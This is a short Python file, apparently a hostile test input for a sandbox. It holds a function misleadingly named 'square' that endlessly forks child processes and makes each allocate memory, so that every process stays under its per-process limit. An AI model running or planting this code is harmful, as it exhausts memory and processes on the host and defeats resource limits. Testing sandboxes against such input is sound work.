"""Memory without end, in several processes so that each is below its own limit."""
import os


def square(x):
    children = []
    while True:
        for _ in range(4):
            if os.fork() == 0:
                while True:
                    children.append(bytearray(b"x" * 50_000_000))
        while True:
            children.append(bytearray(b"x" * 50_000_000))
